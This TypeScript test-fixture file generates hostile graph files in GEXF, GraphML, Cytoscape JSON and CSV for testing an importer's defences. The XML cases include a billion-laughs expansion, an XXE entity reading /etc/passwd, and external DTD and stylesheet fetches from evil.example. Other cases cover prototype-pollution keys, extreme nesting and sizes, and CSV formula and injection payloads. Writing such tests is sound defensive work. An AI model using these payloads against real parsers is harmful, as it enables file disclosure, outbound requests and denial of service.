/** Hostile files in the formats of other tools: GEXF, GraphML, Cytoscape JSON and tables. */
import { type BadFile, type Family, fileOf } from './bad-file';
import { FORMULAS, PAYLOADS } from './nasty-words';

const DEEP = 100_000;

/** Ten entities, each ten times the one before: three thousand million letters, were they ever written out. */
const LAUGHS = `<!DOCTYPE x [<!ENTITY a0 "lol">${Array.from(
  { length: 10 },
  (_, number) => `<!ENTITY a${number + 1} "${`&a${number};`.repeat(10)}">`,
).join('')}]>`;

const DOCTYPES: Readonly<Record<string, string>> = {
  'a thousand million laughs': LAUGHS,
  'an entity that is a file': '<!DOCTYPE x [<!ENTITY a10 SYSTEM "file:///etc/passwd">]>',
  'an entity from elsewhere': '<!DOCTYPE x [<!ENTITY a10 SYSTEM "https://evil.example/x">]>',
  'a parameter entity': '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
  'an entity that holds itself': '<!DOCTYPE x [<!ENTITY a10 "&a10;">]>',
};

const gexf = (inside: string, doctype = '') =>
  `<?xml version="1.0"?>${doctype}<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph>${inside}</graph></gexf>`;
const graphml = (inside: string, doctype = '') =>
  `<?xml version="1.0"?>${doctype}<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed">${inside}</graph></graphml>`;
const nodes = (name: string) => `<nodes><node id="n" label="${name}"/></nodes>`;
const inXml = (text: string): string => text.replace(/[&<>"]/g, (mark) => `&#${mark.charCodeAt(0)};`);

const xml = (
  format: string,
  extension: string,
  write: (inside: string, doctype?: string) => string,
): Family => {
  const file = (name: string, outcome: BadFile['outcome'], content: () => string) =>
    fileOf(`${format}: ${name}`, outcome, content, `graph.${extension}`);
  const whole = write(nodes('One'));
  return {
    name: format,
    files: [
      ...Object.entries(DOCTYPES).map(([name, doctype]) =>
        file(name, 'refused', () => write(nodes('&a10;'), doctype)),
      ),
      file('an entity that nobody declared', 'refused', () => write(nodes('&nbsp;'))),
      file('a hundred thousand elements deep', 'refused', () =>
        write(`${'<node>'.repeat(DEEP)}${'</node>'.repeat(DEEP)}`),
      ),
      file('a hundred thousand elements that are not closed', 'refused', () => write('<node>'.repeat(DEEP))),
      file('tags that do not match', 'refused', () => write('<nodes></node>')),
      file('an attribute twice', 'refused', () => write('<nodes><node id="a" id="b"/></nodes>')),
      file('a prefix that nobody declared', 'refused', () => write('<evil:node/>')),
      file('another namespace', 'opened', () => whole.replace(/xmlns="[^"]*"/, 'xmlns="urn:evil"')),
      file('a style sheet from elsewhere', 'opened', () =>
        whole.replace('?>', '?><?xml-stylesheet href="https://evil.example/x.xsl"?>'),
      ),
      file('nothing in it', 'refused', () => write('')),
      ...Object.entries(PAYLOADS).map(([name, text]) =>
        file(`${name} for a name`, 'opened', () =>
          write(nodes(inXml(text)).replace('"n"', () => `"${inXml(text)}"`)),
        ),
      ),
      file('HTML under its name', 'refused', () => '<!doctype html><p>Not found<br>'),
      file('a zero byte', 'refused', () => write(nodes('a\u0000b'))),
      ...Array.from({ length: 12 }, (_, number) =>
        file(`cut short, ${number + 1} of 13`, 'refused', () =>
          whole.slice(0, Math.floor((whole.length * (number + 1)) / 13)),
        ),
      ),
    ],
  };
};

const cytoscape = (elements: unknown): string => JSON.stringify({ elements });
const node = (id: unknown, more: object = {}) => ({ data: { id, name: 'One', ...more } });

const cytoscapeJson: Family = {
  name: 'Cytoscape JSON',
  files: (
    [
      ['no elements', 'refused', { nodes: [], edges: [] }],
      ['elements that are a text', 'refused', 'nodes'],
      ['nodes that are a record', 'refused', { nodes: {} }],
      ['a node that is nothing', 'refused', { nodes: [null] }],
      ['a node without data', 'refused', { nodes: [{}] }],
      ['an id that is a record', 'refused', { nodes: [node({})] }],
      ['an id that is a prototype', 'opened', { nodes: [node('__proto__'), node('constructor')] }],
      ['one id twice', 'refused', { nodes: [node('a'), node('a')] }],
      [
        'an edge from nowhere',
        'refused',
        { nodes: [node('a')], edges: [{ data: { source: 'b', target: 'a' } }] },
      ],
      [
        'an edge to itself',
        'opened',
        { nodes: [node('a')], edges: [{ data: { source: 'a', target: 'a' } }] },
      ],
      ['a node inside itself', 'opened', { nodes: [node('a', { parent: 'a' })] }],
      ['a position beyond all', 'opened', { nodes: [{ ...node('a'), position: { x: 1e308, y: -1e308 } }] }],
      ...Object.entries(PAYLOADS).map(([name, text]) => [
        name,
        'opened',
        { nodes: [node(text, { name: text })] },
      ]),
    ] as readonly (readonly [string, BadFile['outcome'], unknown])[]
  ).map(([name, outcome, elements]) =>
    fileOf(`Cytoscape: ${name}`, outcome, () => cytoscape(elements), 'graph.cyjs'),
  ),
};

const table = (name: string, outcome: BadFile['outcome'], content: () => string): BadFile =>
  fileOf(`CSV: ${name}`, outcome, content, 'graph.csv');

const tables: Family = {
  name: 'tables',
  files: [
    table('headings alone', 'refused', () => 'source,target\r\n'),
    table('a quote that is never closed', 'refused', () => 'source,target\r\n"a,b\r\nc,d\r\n'),
    table('a quote in the middle', 'opened', () => 'source,target\r\na"b,c\r\n'),
    table('rows of all lengths', 'refused', () => 'source,target\r\na\r\na,b,c\r\n,\r\n'),
    table('a heading twice', 'refused', () => 'source,source,target\r\na,b,c\r\n'),
    table('prototype headings', 'opened', () => '__proto__,constructor,source,target\r\n1,2,a,b\r\n'),
    table('no comma at all', 'refused', () => 'words\r\nand more words\r\n'),
    table('a million columns', 'refused', () => `${'c,'.repeat(1_000_000)}c\r\n`),
    table('a million quotation marks', 'refused', () => '"'.repeat(1_000_001)),
    ...Object.entries({ ...FORMULAS, ...PAYLOADS }).map(([name, text]) =>
      table(name, 'opened', () => `source,target,label\r\na,b,"${text.replaceAll('"', '""')}"\r\n`),
    ),
  ],
};

export const otherFormats: readonly Family[] = [
  xml('GEXF', 'gexf', gexf),
  xml('GraphML', 'graphml', graphml),
  cytoscapeJson,
  tables,
];
